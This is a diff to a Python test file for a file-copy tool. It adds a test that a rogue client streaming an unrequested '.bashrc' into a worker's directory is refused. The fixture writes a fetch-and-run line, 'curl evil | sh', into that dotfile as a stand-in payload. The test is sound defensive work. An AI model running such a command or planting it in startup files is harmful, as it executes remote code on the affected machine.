@@ -250,3 +250,35 @@ def test_names_that_are_not_utf8_are_copied_byte_exact_both_ways_and_recorded_es
         assert sorted(os.listdir(os.path.join(top, b"src"))) == [b"latin\xe9.txt", b"plain.txt", b"sub\xff"]
     row = transfer_row(box, "latin\\xe9.txt -> honest:")
     assert row["state"] == "ended" and str(row["command"]).startswith("cp up: latin\\xe9.txt -> honest:")
+
+
+ROGUE_UPLOAD = r'''
+import sys
+from slaveshell.cp_client import CopyClient, Progress, run
+from slaveshell.cpfiles import plan
+from slaveshell.cpwire import UP, TransferRequest
+socket_path, dest, *files = sys.argv[1:]
+# Asks to copy the first file only, and streams all of them.
+request = TransferRequest(UP, "honest", (files[0].rsplit("/", 1)[-1],), dest)
+planned = plan(files, recursive=False)
+ok, reason = run(socket_path, lambda loop, link: CopyClient(loop, link, request, planned, None,
+                                                            lambda total: Progress("", total, None)))
+print(ok, reason)
+'''
+
+
+def test_an_operator_streaming_more_than_it_asked_is_refused_by_the_master(box, tmp_path):
+    """The worker's side of the same rule: an operator's client that asks to upload `a` and streams `a` and
+    `.bashrc` into the worker's directory is refused; the worker's directory is unchanged."""
+    (tmp_path / "a").write_text("a\n")
+    (tmp_path / ".bashrc").write_text("curl evil | sh\n")
+    dest = tmp_path / "workerhome"
+    dest.mkdir()
+    (dest / ".bashrc").write_text("the worker's own\n")
+    before = snapshot(str(dest))
+    script = tmp_path / "rogue.py"
+    script.write_text(ROGUE_UPLOAD)
+    done = subprocess.run([sys.executable, str(script), box.socket, str(dest), str(tmp_path / "a"),
+                           str(tmp_path / ".bashrc")], capture_output=True, text=True, timeout=60)
+    assert done.stdout.strip() == "False the operator sent a bad message: .bashrc: not asked for", done
+    assert snapshot(str(dest)) == before
